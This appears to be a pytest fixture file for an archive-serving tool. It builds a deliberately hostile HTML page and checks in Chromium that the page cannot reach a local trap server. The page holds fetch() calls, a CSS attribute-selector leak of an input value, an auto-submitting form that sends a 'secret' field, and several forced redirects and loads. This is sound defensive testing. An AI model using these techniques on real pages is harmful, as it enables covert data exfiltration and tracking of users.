"""A served collection with hostile pages, and the system's Chromium to look at it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from material.browsing import built_small_web
from pagemill.collection.layout import Layout
from pagemill.crawl.cells import Cells
from pagemill.crawl.frontier import Found, Frontier, key_of
from pagemill.crawl.politeness import Pace

HOSTILE = "http://hostile.example/"


class Trap:
    """A server that no page may reach: it remembers what was asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def hostile_page(trap: str) -> str:
    """Return a page that tries to run, to load, to send and to lead away."""
    text = (
        "The harbour master said that the tide would turn before anyone was awake to see it. "
    )
    return f"""<!doctype html><html><head><title>Hostile</title>
<base href="{trap}/base/"><meta http-equiv="refresh" content="0;url={trap}/refresh">
<link rel="stylesheet" href="{trap}/css"><link rel="preload" as="image" href="{trap}/preload">
<link rel="dns-prefetch" href="//prefetch.example"><link rel="icon" href="{trap}/icon">
<style>@import url({trap}/import); @font-face {{ font-family: x; src: url({trap}/font) }}
p {{ background: url({trap}/background); font-family: x }}
input[value^="s"] {{ background: url({trap}/leak) }}</style>
<script>top.document.title = "owned"; fetch("{trap}/fetch"); localStorage.x = 1;</script></head>
<body onload="fetch('{trap}/onload')"><p>{text * 4}</p><img src="{trap}/image"
onerror="fetch('{trap}/onerror')"><svg><image href="{trap}/svg"/><script>alert(1)</script></svg>
<form id="f" action="{trap}/form" method="post"><input name="a" value="secret" autofocus
onfocus="document.forms[0].submit()"><button id="send">Send</button></form>
<a id="away" target="_top" href="{trap}/top">away</a><a id="blank" target="_blank"
href="{trap}/blank">new</a><a id="plain" href="{trap}/plain">plain</a>
<iframe src="{trap}/iframe"></iframe><object data="{trap}/object"></object>
<embed src="{trap}/embed"><video autoplay src="{trap}/video"></video>
<a ping="{trap}/ping" href="#">p</a><script src="{trap}/script"></script></body></html>"""


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    """Return the server that no page may reach."""
    found = Trap()
    yield found
    found.close()


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return where the served collection lies, in ``web``."""
    return tmp_path_factory.mktemp("served")


def queue(root: Path, *urls: str) -> None:
    """Queue addresses as a crawl of the collection does."""
    with Cells(Layout(root).crawl / "table") as cells:
        frontier = Frontier(cells, Pace(delay=1.0, delay_factor=0.0, longest_delay=9.0))
        frontier.add(Found(url, key_of(url), "a.example") for url in urls)
        frontier.commit()


@pytest.fixture(scope="module")
def served(trap: Trap, home: Path) -> Iterator[str]:
    """Return the address of a served collection that holds a hostile page."""
    pages = home / "hostile.jsonl"
    row = {
        "url": HOSTILE,
        "html": hostile_page(trap.address),
        "fetched_at": "2026-01-01T00:00:00Z",
    }
    pages.write_text(json.dumps(row) + "\n", "utf-8")
    collection = built_small_web(home / "web", pages)
    queue(collection.root, "http://a.example/1")
    command = [sys.executable, "-m", "pagemill", "serve", str(collection.root), "--port", "0"]
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=environment
    ) as process:
        try:
            assert process.stdout is not None
            yield process.stdout.readline().split()[1].rstrip("/")
        finally:
            process.kill()


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    """Return a running Chromium; one for all tests of a module."""
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None:
        pytest.skip("there is no chromium on this machine (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(Path(program)), args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser
        browser.close()


@pytest.fixture
def queued(home: Path) -> Callable[..., None]:
    """Return what queues addresses in the served collection."""
    return lambda *urls: queue(home / "web", *urls)


@pytest.fixture
def opened(chromium: Any, served: str) -> Iterator[Callable[..., Any]]:
    """Return a maker of pages: ``opened("/search", color_scheme="dark")``."""
    contexts: list[Any] = []

    def make(path: str, **options: Any) -> Any:
        context = chromium.new_context(base_url=served, **options)
        contexts.append(context)
        context.set_default_timeout(15_000)
        page = context.new_page()
        page.faults = []
        page.on("pageerror", lambda error: page.faults.append(str(error)))
        page.goto(path)
        return page

    yield make
    for context in contexts:
        context.close()
